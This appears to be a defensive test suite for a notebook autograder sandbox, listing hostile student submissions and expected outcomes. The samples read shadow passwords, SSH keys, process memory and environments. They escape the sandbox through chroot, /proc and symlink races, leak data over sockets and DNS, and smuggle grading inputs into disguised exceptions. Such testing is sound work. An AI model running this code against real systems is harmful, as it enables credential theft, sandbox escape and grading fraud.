"""Reading what must stay hidden."""

import os
from pathlib import Path

from hostile import RIGHT, WRONG, Group, Targets

SECRETS = Group("secrets")
add = SECRETS.add
SHOW = '''
def show(path, at_most=400_000):
    """Print a file that must not be readable."""
    try:
        with open(path, "rb") as file:
            content = file.read(at_most)
    except OSError:
        return
    print("LE" + "AK", path, content[:400])

'''

add(
    "C01-read-db",
    "reads the gradebook",
    """
    import os, sqlite3

    for root in ("@COURSE@", os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))):
        for name in (f"file:{root}/gradebook.db?mode=ro", f"file:{root}/gradebook.db?immutable=1"):
            try:
                with sqlite3.connect(name, uri=True) as base:
                    print("LE" + "AK", base.execute("select name from sqlite_master").fetchall()[:3])
            except sqlite3.Error:
                pass
    """,
    then=WRONG,
)
add(
    "C02-read-solution",
    "executes the instructor's solution",
    """
    import glob, json

    for path in glob.glob("@COURSE@/solutions/02-*/*.py") + glob.glob("../../../solutions/02-*/*.py"):
        print("LE" + "AK", path)
        text = open(path).read()
        exec(text[text.index("def softmax") : text.index("### END SOLUTION", text.index("def softmax"))])
    for path in glob.glob("@COURSE@/staging/*/02-*/*.ipynb") + glob.glob("../../../source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "def softmax" in "".join(cell["source"]):
                exec("".join(cell["source"]))
    """,
)
add(
    "C03-hidden-tests",
    "looks for hidden tests in the notebooks of its folder",
    """
    import glob

    for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("../*.ipynb"):
        if "hidden" in open(path).read().lower():
            print("LE" + "AK", path)
    """,
    then=WRONG,
)
add(
    "C04-other-students",
    "executes another student's answer",
    """
    import glob, json

    for folder in ("submitted", "autograded", "feedback"):
        for path in glob.glob(f"@COURSE@/{folder}/*/02-*/*") + glob.glob(f"../../../{folder}/*/*/*"):
            if "/@STUDENT@/" not in path:
                print("LE" + "AK", path)
                for cell in json.load(open(path))["cells"]:
                    if "def softmax" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
    """,
)
add(
    "C05-proc-environ",
    "reads environment, command line and memory of every process it sees",
    """
    import os

    try:
        numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        numbers = list(range(1, 40_000))
    for pid in [*numbers, os.getppid(), @PID@]:
        if pid == os.getpid():
            continue
        for name in ("environ", "cmdline"):
            try:
                content = open(f"/proc/{pid}/{name}", "rb").read()
                if b"nbgrader" in content or b"CORPUS_CANARY" in content:
                    print("LE" + "AK", pid, name, content[:2000])
            except OSError:
                pass
        try:
            regions = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if "[heap]" in line]
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(int(regions[0][0], 16))
                print("LE" + "AK", "memory of", pid, len(memory.read(4096)))
        except (OSError, IndexError):
            pass
    """,
    then=WRONG,
)
add(
    "C07-fds",
    "looks through the descriptors it inherited",
    """
    import os

    for descriptor in range(1024):
        try:
            target = os.readlink(f"/proc/self/fd/{descriptor}")
        except OSError:
            continue
        if any(word in target for word in ("gradebook", "@COURSE@", ".db", "solutions", ".log")):
            print("LE" + "AK", target)
    """,
    then=WRONG,
)


def _link_to_gradebook(folder: Path, place: Targets) -> None:
    os.symlink(f"{place.course}/gradebook.db", folder / "link.db")
    os.symlink(f"{place.course}/solutions", folder / "solutions")


add(
    "C08-symlink",
    "hands in links to the gradebook and the solutions",
    SHOW + "import glob\n\nfor path in ['link.db', *glob.glob('solutions/*/*')]:\n    show(path)\n",
    then=WRONG,
    lay=_link_to_gradebook,
)
add(
    "C10-network",
    "talks to a listener outside by TCP and UDP",
    """
    import socket

    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as tcp:
                tcp.settimeout(2)
                tcp.connect((host, @TCP@))
                tcp.sendall(b"@MARK@")
                print("LE" + "AK", "connected")
        except OSError:
            pass
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as udp:
                udp.sendto(b"@MARK@", (host, @UDP@))
        except OSError:
            pass
    try:
        print([name for _, name in socket.if_nameindex()])
    except OSError:
        pass
    """,
    then=WRONG,
)
add(
    "C11-env",
    "prints the environment",
    "import os\n\nprint(dict(os.environ))\nprint(open('/proc/self/environ', 'rb').read())\n" + WRONG,
)

# Files
add(
    "N50-course-files",
    "reads every file of the course",
    SHOW
    + """
import os

for folder, _, names in os.walk("@COURSE@"):
    print("LE" + "AK", folder)
    for name in names:
        show(os.path.join(folder, name))
for name in (".course_secret", "course_config.py", "gradebook.db", "grades.csv", ".verdicts"):
    show("@COURSE@/" + name)
show("@OUTSIDE@/canary")
""",
    then=RIGHT,
    earns=3,
)
add(
    "N51-package",
    "imports the graders and calls the reference",
    """
    import importlib, importlib.util, sys

    for name in [name for name in sys.modules if name.split(".")[0] == "autograder"]:
        print("LE" + "AK", name)
    sys.path += ["@COURSE@", "@COURSE@/solutions"]
    for name in ("solutions.02-attention.graders", "02-attention.reference", "autograder.sources.course", "autograder.grading.rubric"):
        try:
            module = importlib.import_module(name)
        except ImportError:
            continue
        print("LE" + "AK", module)
        if "reference" in name:
            softmax = module.softmax
    """,
)
add(
    "N52-package-files",
    "searches the installed packages for the graders",
    """
    import glob, os, site, sys, sysconfig

    roots = {*sys.path, *site.getsitepackages(), sysconfig.get_path("purelib"), sys.prefix, os.path.dirname("@COURSE@")}
    for root in roots:
        for pattern in ("autograder/*.py", "solutions/*/*.py", "solutions/*/tasks/*.py", "*/graders.py", "__editable__*", "transformer_course*/*"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if "def test_" in text or "def softmax" in text:
                    print("LE" + "AK", path)
                if path.endswith(("direct_url.json", ".pth", ".py")) and "editable" in path + text:
                    for word in text.replace('"', " ").replace("'", " ").replace("file://", " ").split():
                        for grader in glob.glob(word + "/*/*/tasks/*.py") + glob.glob(word + "/*/graders.py"):
                            if "def test_" in open(grader).read():
                                print("LE" + "AK", grader)
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N53-other-kernels",
    "looks into the folders of kernels graded at the same time",
    """
    import glob, os, sys, tempfile, time

    own = os.path.realpath(os.environ.get("TMPDIR", tempfile.gettempdir()))
    for _ in range(5):
        for folder in (os.path.dirname(own), "/tmp", "/var/tmp", "/dev/shm", "/run", "@OUTSIDE@/.."):
            for path in glob.glob(folder + "/*/wor?/*") + glob.glob(folder + "/*/connection.json"):
                if sys.prefix.startswith(os.path.realpath(path)):
                    continue  # the environment may lie below a folder of such a name
                if not os.path.realpath(path).startswith((own, os.path.realpath(os.getcwd()))):
                    print("LE" + "AK", path)
        time.sleep(0.3)
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N54-home-and-system",
    "reads home folders, keys, shadow passwords and logs",
    SHOW
    + """
import glob, os, pwd

homes = {entry.pw_dir for entry in pwd.getpwall() if entry.pw_dir.startswith(("/home", "/root"))}
for home in homes | {"/root", "@COURSE@/../home"}:
    for name in (".bashrc", ".profile", ".bash_history", ".netrc", ".ssh/id_rsa", ".ssh/authorized_keys"):
        show(f"{home}/{name}")
for path in ("/etc/shadow", "/etc/sudoers", "/proc/kcore", "/proc/kallsyms", "/var/log/syslog", "/var/log/dpkg.log"):
    if path != "/proc/kallsyms":
        show(path, 1000)
""",
    then=RIGHT,
    earns=3,
)
add(
    "N55-proc-root",
    "leaves its root through /proc",
    SHOW
    + """
import os

try:
    numbers = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    numbers = []
for pid in ["self", "1", str(os.getppid()), "@PID@", *numbers]:
    for way in ("root", "cwd"):
        show(f"/proc/{pid}/{way}@COURSE@/course_config.py")
        show(f"/proc/{pid}/{way}@OUTSIDE@/canary")
    try:
        for descriptor in os.listdir(f"/proc/{pid}/fd"):
            show(f"/proc/{pid}/fd/{descriptor}@COURSE@/course_config.py")
            show(f"/proc/{pid}/fd/{descriptor}/../../../../../../../..@COURSE@/course_config.py")
    except OSError:
        pass
""",
    then=RIGHT,
    earns=3,
)
add(
    "N56-dirfd-escape",
    "leaves its root by .. from an open folder and by chroot",
    """
    import os

    top = os.open(".", os.O_RDONLY)
    try:
        os.mkdir("jail")
        os.chroot("jail")
        os.fchdir(top)
        for _ in range(100):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    for _ in range(100):
        try:
            descriptor = os.open("..", os.O_RDONLY, dir_fd=top)
            os.close(top)
            top = descriptor
        except OSError:
            break
    try:
        with open(os.open("@OUTSIDE@/canary".lstrip("/"), os.O_RDONLY, dir_fd=top)) as file:
            print("LE" + "AK", file.read())
    except OSError:
        pass
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N57-hard-link",
    "makes hard links to what it must not read",
    SHOW
    + """
import ctypes, os

libc = ctypes.CDLL(None)
for number, path in enumerate(("@COURSE@/course_config.py", "@OUTSIDE@/canary", "/etc/shadow")):
    try:
        os.link(path, f"hard{number}")
    except OSError:
        libc.linkat(-100, path.encode(), -100, f"hard{number}".encode(), 0x400)
    show(f"hard{number}")
""",
    then=RIGHT,
    earns=3,
)
add(
    "N58-symlink-swap",
    "swaps a file of its folder for a link while the grader looks",
    """
    import os, threading


    def swap():
        for _ in range(2000):
            for target in ("@COURSE@/course_config.py", "@OUTSIDE@/canary"):
                try:
                    os.symlink(target, "new")
                    os.replace("new", "answer.txt")
                    open("plain", "w").close()
                    os.replace("plain", "answer.txt")
                except OSError:
                    pass


    threading.Thread(target=swap, daemon=True).start()
    """,
    then=RIGHT,
    earns=3,
    files={"answer.txt": b"harmless\n"},
)

# Other ways out
add(
    "N59-unix-socket-path",
    "connects to a unix socket outside by its path",
    """
    import socket

    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as channel:
                channel.connect("@SOCKET@")
                channel.sendall(b"@MARK@")
                print("LE" + "AK", "connected")
        except OSError:
            pass
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N60-unix-socket-abstract",
    "connects to an abstract unix socket outside",
    """
    import socket

    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as channel:
                channel.connect("\\0@ABSTRACT@")
                channel.sendall(b"@MARK@")
                print("LE" + "AK", "connected")
        except OSError:
            pass
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N61-other-families",
    "asks netlink for the machine's interfaces, and opens raw, packet, vsock and crypto sockets",
    """
    import socket, struct

    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
            netlink.bind((0, 0))
            netlink.settimeout(2)
            netlink.send(struct.pack("=IHHIIB", 17, 18, 0x301, 1, 0, 0))
            names = netlink.recv(1 << 16)
            if any(name in names for name in (b"eth0", b"ens", b"enp", b"wlan", b"docker", b"veth")):
                print("LE" + "AK", "interfaces")
    except OSError:
        pass
    for family, kind, protocol in ((17, 3, 3), (2, 3, 1), (10, 3, 58), (40, 1, 0), (29, 3, 1), (31, 3, 1), (44, 3, 0)):
        try:
            socket.socket(family, kind, protocol).close()
        except OSError:
            continue
        print("LE" + "AK", "socket of family", family)
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N62-dns",
    "resolves a name that holds what it found",
    """
    import socket, threading

    threading.Thread(target=socket.gethostbyname, args=("@MARK@.invalid",), daemon=True).start()
    try:
        socket.setdefaulttimeout(1)
        print(len(socket.getaddrinfo("localhost", 80)))
    except OSError:
        pass
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N63-keyrings",
    "keeps a message for the next student in a keyring",
    """
    import ctypes, platform

    libc = ctypes.CDLL(None)
    add_key = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    for ring in (-3, -4, -5):  # session, user, user session
        if libc.syscall(add_key, b"user", b"@MARK@", b"hello", 5, ring) > 0:
            print("LE" + "AK", "keyring", ring)
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N64-message-queues",
    "keeps messages for the next student in System V and POSIX queues",
    """
    import ctypes

    libc = ctypes.CDLL(None)
    queue = libc.msgget(@KEY@ + 500, 0o1666)
    if queue >= 0:
        libc.msgsnd(queue, ctypes.create_string_buffer(b"\\1" + b"\\0" * 7 + b"hello"), 5, 0o4000)
    semaphore = libc.semget(@KEY@ + 501, 1, 0o1666)
    posix = libc.mq_open(b"/@MARK@", 0o102, 0o666, None)
    """,
    then=RIGHT,
    earns=3,
)
add(
    "N65-grader-memory",
    "walks the garbage collector and its stack for the grader's objects",
    """
    import gc, sys

    names = ("course", "evaluation", "grading", "probe", "rubric")
    outside = ("nbgrader", "_pytest", "course_", *(f"autograder.{name}" for name in names))


    def softmax(x, axis=-1):
        import numpy as np

        found = [o for o in gc.get_objects() if type(o).__module__.startswith(outside)]
        frame = sys._getframe()
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, np.ndarray) and value is not x and np.shape(value) == np.shape(x):
                    if np.allclose(value.sum(axis=axis), 1):
                        return value
            frame = frame.f_back
        if found:
            print("LE" + "AK", found[:3])
        return x
    """,
)
add(
    "N66-inherited-memory",
    "searches its own memory for secrets of the process it was forked from",
    """
    import re

    # patterns that don't match their own source
    words = [rb"CORPUS_CANAR[Y]=.{40}", rb"expect_clos[e]\\(", rb"BUILDS_O[N]: "]
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            if end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                content = memory.read(end - start)
            except (OSError, ValueError):
                continue
            for word in words:
                for found in re.findall(word, content)[:3]:
                    print("LE" + "AK", line.split()[-1], found)
    """,
    then=RIGHT,
    earns=3,
)

# What a grader sends must not be read back by the student
FLOAT64 = """
import numpy as np


def secret(x):
    return isinstance(x, np.ndarray) and x.dtype == np.float64
"""
add(
    "MA01-raise-repr",
    "puts the grader's inputs into an exception",
    FLOAT64
    + "\n\ndef softmax(x, axis=-1):\n    raise ValueError('SE' 'EN ' + repr(np.asarray(x).tolist()) if secret(x) else 'public')\n",
    dependent=True,
)
add(
    "MA08-print-in-fn",
    "prints and displays the grader's inputs",
    FLOAT64
    + """

def softmax(x, axis=-1):
    if secret(x):
        import os, sys

        print("SE" + "EN", x.tolist())
        print("SE" + "EN", x.tolist(), file=sys.stderr)
        display("SE" + "EN" + repr(x.tolist()))
        os.write(1, ("SE" + "EN" + repr(x.tolist())).encode())
        get_ipython().user_ns["Out"][1] = "SE" + "EN"
    return x
""",
)
add(
    "MA09-thread-print",
    "prints the grader's inputs from a thread",
    FLOAT64
    + """
import threading, time

found = []


def report():
    while True:
        time.sleep(0.01)
        if found:
            print("SE" + "EN", found[-1], flush=True)


threading.Thread(target=report, daemon=True).start()


def softmax(x, axis=-1):
    if secret(x):
        found.append(x.tolist())
        time.sleep(0.05)
    return x
""",
)
add(
    "N69-tell-later",
    "keeps the grader's inputs and prints them when a public check calls",
    FLOAT64
    + """
found = []


def softmax(x, axis=-1):
    if secret(x):
        found.append(x.tolist())
    elif found:
        print("SE" + "EN", found)
    return x
""",
)
add(
    "N67-forge-output-later",
    "publishes the grader's inputs as outputs of its own cell",
    FLOAT64
    + """
kernel = get_ipython().kernel
header = kernel.get_parent("shell")


def softmax(x, axis=-1):
    if secret(x):
        for parent in (header, kernel.get_parent("shell")):
            content = {"name": "stdout", "text": "SE" + "EN" + repr(x.tolist())}
            kernel.session.send(kernel.iopub_socket, "stream", content, parent=parent)
            data = {"text/plain": "SE" + "EN" + repr(x.tolist())}
            content = {"data": data, "metadata": {}, "transient": {"display_id": "d"}}
            kernel.session.send(kernel.iopub_socket, "update_display_data", content, parent=parent)
    return x


handle = display({"text/plain": "before"}, raw=True, display_id="d")
""",
)
add(
    "N68-file-for-later",
    "keeps the grader's inputs in files for a later kernel to print",
    FLOAT64
    + """
import glob, os, tempfile

PLACES = {"@MARK@", "../@MARK@", "/tmp/@MARK@", "/var/tmp/@MARK@", "/dev/shm/@MARK@", "@OUTSIDE@/@MARK@",
          os.path.join(tempfile.gettempdir(), "@MARK@"), os.path.expanduser("~/@MARK@")}
for place in PLACES:
    if os.path.exists(place):
        print("SE" + "EN", open(place).read())


def softmax(x, axis=-1):
    if secret(x):
        for place in PLACES:
            try:
                open(place, "a").write(repr(x.tolist()))
            except OSError:
                pass
    return x
""",
    dependent=True,
)
for number, (kind, text) in {
    "MA02-broadcast": ("ValueError", "f'operands could not be broadcast together with shapes ({d[:38]}) ({d[38:76]}) '"),
    "MA03-recursion": ("RecursionError", "'maximum recursion depth exceeded ' + e"),
    "MA04-matmul": ("ValueError", "'matmul: Input operand 1 has a mismatch in its core dimension 0 ' + e + '(size 1 is different from 2)'"),
    "MA06-reshape": ("ValueError", "f'cannot reshape array of size {d} into shape (2,)'"),
    "MA07-nameerror": ("NameError", "f\"name 'v{d[:20]}' is not defined\""),
    "MA10-positional": ("TypeError", "f'softmax() takes {d[:60]} positional arguments but 3 were given'"),
    "MA11-missing": ("TypeError", "'softmax() missing 1 required positional argument: ' + d.translate(letters)"),
}.items():  # fmt: skip
    # Digits of the inputs in sentences that look like Python's and NumPy's own
    add(
        number,
        f"hides the grader's inputs in a {kind} that looks harmless",
        f"""
        import numpy as np

        letters = str.maketrans("0123456789", "abcdefghij")


        def softmax(x, axis=-1):
            x = np.asarray(x, dtype=np.float64)
            d = "31415" + "926535" + "".join(f"{{abs(v):.6f}}".replace(".", "") for v in x.ravel()[:20])
            e = "31415" + "926535 " + repr(x.ravel()[:4].tolist())
            raise {kind}({text})
        """,
    )
add(
    "MA05-shape",
    "hides the grader's inputs in the shape of its answer",
    """
    import numpy as np


    def softmax(x, axis=-1):
        return np.empty((0, int("31415" + "926535"), *[int(abs(v) * 1e9) for v in np.asarray(x).ravel()[:10]]))
    """,
)
